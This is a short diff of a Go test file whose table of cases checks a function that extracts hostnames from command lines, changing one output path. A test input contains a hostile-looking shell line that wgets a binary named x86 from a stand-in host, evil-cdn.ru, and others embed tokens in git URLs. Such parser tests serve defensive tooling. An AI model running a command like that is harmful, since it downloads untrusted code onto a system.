@@ -55,7 +55,7 @@ func TestDecoded(t *testing.T) {
 
 func TestURLHosts(t *testing.T) {
 	for _, c := range []struct{ line, want string }{
-		{"curl -fsSL -o /work/data.csv https://data.acme.io/exports/x.csv", "data.acme.io"},
+		{"curl -fsSL -o /srv/data.csv https://data.acme.io/exports/x.csv", "data.acme.io"},
 		{"sh -c wget http://evil-cdn.ru:8080/x86; wget http://EVIL-cdn.ru/b", "evil-cdn.ru"},
 		{"git clone https://user.name:token@github.com/a/b", "github.com"},
 		{"git clone https://token@github.com/a/b", "github.com"},
